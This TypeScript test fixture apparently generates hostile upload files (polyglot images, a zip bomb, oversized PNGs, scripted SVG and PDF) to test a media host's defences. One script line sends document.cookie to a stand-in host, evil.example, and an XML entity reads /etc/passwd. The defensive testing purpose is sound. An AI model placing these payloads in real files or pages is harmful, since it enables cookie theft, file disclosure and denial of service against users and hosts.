// Files that somebody would send to harm the host or its readers: small ones, made here.
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import { PHOTOGRAPH } from './make-photograph.ts';
import { readFileSync } from 'node:fs';

const SCRIPT = '<script>fetch("https://evil.example/"+document.cookie)</script>';

/** A file by what is wrong with it, and why it has no preview. */
export interface Hostile {
  readonly bytes: Buffer;
  /** What the host says that it is. */
  readonly media: string;
  /** Undefined when new pixels of it are harmless and are made. */
  readonly why: string | undefined;
}

/** Each of them. */
export function hostileFiles(): Record<string, Hostile> {
  const photograph = readFileSync(PHOTOGRAPH);
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`;
  return {
    'HTML with a script': unknown(`<!doctype html><html>${SCRIPT}</html>`),
    'SVG with scripts': unknown(svg),
    'SVG with an entity from a file': unknown(
      '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
    ),
    'an office file with a macro': unknown(zipOf('word/vbaProject.bin', Buffer.from('Sub AutoOpen()'))),
    'a zip bomb': unknown(zipOf('zeros', Buffer.alloc(50_000_000))),
    'PDF with a script': {
      bytes: Buffer.from('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF'),
      media: 'application/pdf',
      why: 'type',
    },
    'a GIF that is a page, too': {
      bytes: Buffer.from(`GIF89a/*${SCRIPT}*/=1;`),
      media: 'image/gif',
      why: 'damaged',
    },
    'a JPEG with a page behind it': {
      bytes: Buffer.concat([photograph, Buffer.from(`<html>${SCRIPT}</html>`)]),
      media: 'image/jpeg',
      why: undefined,
    },
    'a JPEG cut in the middle': {
      bytes: photograph.subarray(0, photograph.length - 60),
      media: 'image/jpeg',
      why: 'damaged',
    },
    'an SVG that begins like a PNG': {
      bytes: Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), Buffer.from(svg)]),
      media: 'image/png',
      why: 'damaged',
    },
    'a PNG of 100,000 by 100,000': { bytes: pngOf(100_000, 100_000), media: 'image/png', why: 'pixels' },
    'a PNG just above the limit': { bytes: pngOf(10_001, 10_000), media: 'image/png', why: 'pixels' },
    'a PNG that claims what it has not': { bytes: pngOf(8000, 8000), media: 'image/png', why: 'damaged' },
    'a TIFF whose directory points to itself': {
      bytes: Buffer.from('49492a0008000000000008000000', 'hex'),
      media: 'image/tiff',
      why: 'damaged',
    },
    'an empty file': { bytes: Buffer.alloc(0), media: 'application/octet-stream', why: 'type' },
  };
}

function unknown(bytes: string | Buffer): Hostile {
  return { bytes: Buffer.from(bytes as string), media: 'application/octet-stream', why: 'type' };
}

/** A PNG of some size that has a single row of pixels, packed. */
function pngOf(width: number, height: number): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 0, 0, 0, 0], 8);
  const parts = [
    ['IHDR', head],
    ['IDAT', deflateSync(Buffer.alloc(width + 1))],
    ['IEND', Buffer.alloc(0)],
  ] as const;
  const chunks = parts.map(([type, data]) => {
    const body = Buffer.concat([Buffer.from(type), data]);
    const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(data.length);
    check.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, check]);
  });
  return Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), ...chunks]);
}

/** A zip with one member, packed. */
function zipOf(name: string, data: Buffer): Buffer {
  const packed = deflateRawSync(data);
  const common = Buffer.alloc(26);
  common.writeUInt16LE(20, 0);
  common.writeUInt16LE(8, 4);
  common.writeUInt32LE(crc32(data), 10);
  common.writeUInt32LE(packed.length, 14);
  common.writeUInt32LE(data.length, 18);
  common.writeUInt16LE(name.length, 22);
  const local = Buffer.concat([Buffer.from('PK\x03\x04'), common, Buffer.from(name), packed]);
  const entry = Buffer.concat([Buffer.from('PK\x01\x02\x14\0'), common, Buffer.alloc(14), Buffer.from(name)]);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06');
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(entry.length, 12);
  end.writeUInt32LE(local.length, 16);
  return Buffer.concat([local, entry, end]);
}
